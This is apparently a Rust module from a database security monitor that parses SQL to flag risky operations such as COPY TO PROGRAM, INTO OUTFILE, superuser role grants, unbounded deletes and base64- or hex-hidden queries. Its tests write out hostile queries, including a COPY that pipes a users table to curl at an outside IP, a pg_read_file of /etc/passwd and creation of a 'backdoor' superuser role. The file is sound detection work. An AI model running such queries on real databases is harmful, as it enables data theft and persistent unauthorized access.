//! Understanding database queries with a real SQL parser (`sqlparser`, PostgreSQL or MySQL
//! dialect by the session's protocol): statement kinds, tables, functions, and the properties
//! rules care about (`COPY ... TO PROGRAM`, `INTO OUTFILE`, superuser roles, `UPDATE`/`DELETE`
//! without `WHERE`). Queries the parser rejects (psql meta-commands, vendor syntax) fall back
//! to keywords, so rules still see them.

use sqlparser::ast::{Expr, Statement, visit_expressions, visit_relations};
use sqlparser::dialect::{Dialect, MySqlDialect, PostgreSqlDialect};
use std::ops::ControlFlow;

/// Longest query parsed; longer ones are judged by keywords only.
const MAX_PARSED_QUERY_BYTES: usize = 64 * 1024;

/// What a query does, for rules.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SqlView {
    /// Statement kinds in snake case (`select`, `copy`, `create_role`, `grant`, `drop`, ...),
    /// plus derived kinds: `copy_to_program`, `copy_to`, `select_into_outfile`, `load_file`.
    pub statements: Vec<String>,
    /// Tables and other relations referenced, lower case, as written (`public.users`).
    pub tables: Vec<String>,
    /// Functions called, lower case.
    pub functions: Vec<String>,
    /// A role or user is created or altered with superuser-like powers.
    pub superuser: bool,
    /// An `UPDATE` or `DELETE` has no `WHERE` clause.
    pub no_where: bool,
    /// The query text.
    pub text: String,
    /// The parser rejected the query.
    pub parse_failed: bool,
}

/// Understands a query; `protocol` is the session's `db_protocol` (`postgres`, `mysql`, ...).
pub fn understand_query(query: &str, protocol: &str) -> SqlView {
    let mut view = SqlView { text: query.to_string(), ..SqlView::default() };
    let upper = query.to_ascii_uppercase();
    let dialect: Box<dyn Dialect> = if protocol.contains("mysql") || protocol.contains("maria") {
        Box::new(MySqlDialect {})
    } else {
        Box::new(PostgreSqlDialect {})
    };
    let parsed = if query.len() <= MAX_PARSED_QUERY_BYTES {
        sqlparser::parser::Parser::parse_sql(dialect.as_ref(), query).ok()
    } else {
        None
    };
    match parsed {
        Some(statements) => {
            for statement in &statements {
                view.statements.push(statement_kind(statement));
                if matches!(statement, Statement::Update { .. } | Statement::Delete(_))
                    && !statement.to_string().to_ascii_uppercase().contains(" WHERE ")
                {
                    view.no_where = true;
                }
            }
            let _ = visit_relations(&statements, |relation| {
                view.tables.push(relation.to_string().to_ascii_lowercase().replace(['"', '`'], ""));
                ControlFlow::<()>::Continue(())
            });
            let _ = visit_expressions(&statements, |expression| {
                if let Expr::Function(function) = expression {
                    view.functions.push(function.name.to_string().to_ascii_lowercase());
                }
                ControlFlow::<()>::Continue(())
            });
        }
        None => {
            view.parse_failed = true;
            let keyword = upper
                .trim_start()
                .split(|c: char| c.is_whitespace() || c == ';')
                .next()
                .unwrap_or("")
                .trim_start_matches('\\');
            view.statements.push(keyword.to_ascii_lowercase());
            let tables = static_regex!(r"(?i)\b(?:from|into|join|update|table)\s+([a-z0-9_.`\x22]+)");
            for captures in tables.captures_iter(query) {
                view.tables.push(captures[1].to_ascii_lowercase().replace(['"', '`'], ""));
            }
            let functions = static_regex!(r"(?i)\b([a-z_][a-z0-9_.]*)\s*\(");
            for captures in functions.captures_iter(query) {
                view.functions.push(captures[1].to_ascii_lowercase());
            }
            view.no_where = matches!(keyword, "UPDATE" | "DELETE") && !upper.contains("WHERE");
        }
    }
    // Properties the statement kinds alone do not show.
    let compact: String = upper.split_whitespace().collect::<Vec<_>>().join(" ");
    if compact.contains("COPY") && compact.contains(" TO PROGRAM") || compact.contains("FROM PROGRAM") {
        view.statements.push("copy_to_program".to_string());
    } else if (compact.starts_with("COPY") || compact.starts_with("\\COPY")) && compact.contains(" TO ") {
        view.statements.push("copy_to".to_string());
    }
    if compact.contains("INTO OUTFILE") || compact.contains("INTO DUMPFILE") {
        view.statements.push("select_into_outfile".to_string());
    }
    // Only statements that create or change a role can grant superuser powers (a SELECT of
    // `rolsuper, rolcreaterole` only reads them).
    let changes_role = ["CREATE ROLE", "CREATE USER", "ALTER ROLE", "ALTER USER", "GRANT"]
        .iter()
        .any(|prefix| compact.trim_start().starts_with(prefix));
    let grants_powers = compact.contains(" SUPERUSER") && !compact.contains("NOSUPERUSER")
        || compact.contains(" CREATEROLE") && !compact.contains("NOCREATEROLE")
        || compact.starts_with("GRANT ALL") && compact.contains("WITH GRANT OPTION");
    view.superuser = changes_role && grants_powers;
    view.statements.dedup();
    view.tables.sort();
    view.tables.dedup();
    view.functions.sort();
    view.functions.dedup();
    view
}

/// Queries hidden inside a query: base64 (`decode('..', 'base64')`, `FROM_BASE64('..')`), hex
/// (`0x..`, `UNHEX('..')`, `decode('..', 'hex')`) and `chr()`/`CHAR()` sequences, as used with
/// `EXECUTE`, `DO` blocks and `PREPARE ... FROM`. Returns the decoded texts.
pub fn hidden_queries(query: &str) -> Vec<String> {
    use crate::analyze::shell::decode::{Decoder, decode_base64, decode_hex};
    let mut found = Vec::new();
    let patterns: [(&regex::Regex, Decoder); 5] = [
        (static_regex!(r"(?i)decode\(\s*'([A-Za-z0-9+/=\s]{8,})'\s*,\s*'base64'\s*\)"), decode_base64),
        (static_regex!(r"(?i)from_base64\(\s*'([A-Za-z0-9+/=\s]{8,})'\s*\)"), decode_base64),
        (static_regex!(r"(?i)decode\(\s*'([0-9a-f]{8,})'\s*,\s*'hex'\s*\)"), decode_hex),
        (static_regex!(r"(?i)unhex\(\s*'([0-9a-f]{8,})'\s*\)"), decode_hex),
        (static_regex!(r"(?i)\b0x([0-9a-f]{8,})\b"), decode_hex),
    ];
    for (regex, decoder) in patterns {
        for captures in regex.captures_iter(query) {
            if let Some(bytes) = captures.get(1).and_then(|m| decoder(m.as_str().as_bytes())) {
                let text = String::from_utf8_lossy(&bytes).into_owned();
                if text.chars().all(|c| !c.is_control() || c.is_whitespace()) {
                    found.push(text);
                }
            }
        }
    }
    let characters = static_regex!(r"(?i)(?:chr|char)\(\s*\d+(?:\s*(?:\)\s*\|\|\s*chr\(|,)\s*\d+)+\s*\)");
    for matched in characters.find_iter(query) {
        let text: String = matched
            .as_str()
            .split(|c: char| !c.is_ascii_digit())
            .filter_map(|number| number.parse::<u32>().ok().and_then(char::from_u32))
            .collect();
        if text.len() >= 4 {
            found.push(text);
        }
    }
    found
}

/// The statement's kind in snake case, from its variant name (stable across parser versions).
fn statement_kind(statement: &Statement) -> String {
    let debug = format!("{statement:?}");
    let name: String = debug.chars().take_while(|c| c.is_ascii_alphanumeric()).collect();
    let mut kind = String::new();
    for (index, c) in name.chars().enumerate() {
        if c.is_ascii_uppercase() && index > 0 {
            kind.push('_');
        }
        kind.push(c.to_ascii_lowercase());
    }
    match kind.as_str() {
        "query" => "select".to_string(),
        "set_variable" | "set" => "set".to_string(),
        _ => kind,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn reads_statement_kinds_tables_and_functions() {
        let view = understand_query("SELECT id, password_hash FROM public.users WHERE id = 1", "postgres");
        assert_eq!(view.statements, vec!["select"]);
        assert_eq!(view.tables, vec!["public.users"]);
        let view = understand_query("SELECT pg_read_file('/etc/passwd')", "postgres");
        assert_eq!(view.functions, vec!["pg_read_file"]);
        let view = understand_query("COPY users TO PROGRAM 'curl -d @- http://203.0.113.7'", "postgres");
        assert!(view.statements.contains(&"copy_to_program".to_string()), "{view:?}");
        let view = understand_query("SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'", "mysql");
        assert!(view.statements.contains(&"select_into_outfile".to_string()), "{view:?}");
        let view = understand_query("CREATE ROLE backdoor WITH LOGIN SUPERUSER PASSWORD 'x'", "postgres");
        assert!(view.superuser);
        assert_eq!(view.statements[0], "create_role");
        let view = understand_query("SELECT rolname, rolsuper, rolcreaterole FROM pg_roles", "postgres");
        assert!(!view.superuser);
        let view = understand_query("DELETE FROM orders", "postgres");
        assert!(view.no_where);
        let view = understand_query("UPDATE orders SET x = 1 WHERE id = 2", "postgres");
        assert!(!view.no_where);
    }

    #[test]
    fn finds_hidden_queries() {
        assert_eq!(
            hidden_queries("DO $$ BEGIN EXECUTE convert_from(decode('U0VMRUNUIDE=', 'base64'), 'UTF8'); END $$;"),
            vec!["SELECT 1"]
        );
        assert_eq!(hidden_queries("SET @q = 0x53454c4543542031"), vec!["SELECT 1"]);
        assert_eq!(hidden_queries("SELECT chr(83)||chr(69)||chr(76)||chr(69)"), vec!["SELE"]);
        assert!(hidden_queries("SELECT 1").is_empty());
    }

    #[test]
    fn falls_back_to_keywords() {
        let view = understand_query("\\copy users to '/tmp/u.csv' csv", "postgres");
        assert!(view.parse_failed);
        assert!(view.statements.contains(&"copy_to".to_string()), "{view:?}");
        assert_eq!(view.statements[0], "copy");
    }
}
